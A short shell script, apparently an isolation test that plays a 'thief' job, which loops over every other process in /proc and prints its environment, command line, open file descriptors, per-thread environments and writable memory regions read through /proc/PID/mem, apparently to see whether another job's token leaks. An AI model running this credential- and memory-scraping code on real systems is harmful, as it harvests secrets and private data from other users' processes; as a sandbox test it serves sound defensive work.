# The job as a thief: prints all that it may read of every other process. The token is on its own stdin, which it
# leaves alone.
for process in /proc/[0-9]*; do
  pid=${process#/proc/}
  [ "$pid" = $$ ] && continue
  [ -e "$process/status" ] || continue
  echo "== $pid: $(grep -E '^(Name|Uid):' "$process/status" | tr '\n\t' '  ')"
  for file in environ cmdline auxv maps stack syscall pagemap mountinfo stat status comm fdinfo/0; do
    echo "-- $file"
    cat "$process/$file"
  done
  for file in "$process"/fd/* "$process"/task/*/environ "$process"/task/*/cmdline "$process"/task/*/fd/*; do
    echo "-- $file"
    [ -p "$file" ] || cat "$file"
  done
  echo "-- mem"
  # The writable stretches of a process's memory, if there is a list of them.
  while read -r range mode rest; do
    start=$((0x${range%-*})) end=$((0x${range#*-}))
    [ "$mode" = rw-p ] && dd if="$process/mem" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096))
  done <"$process/maps"
  dd if="$process/mem" bs=1 count=1 skip=4198400
done 2>&1
echo "the thief is done"
exit 0
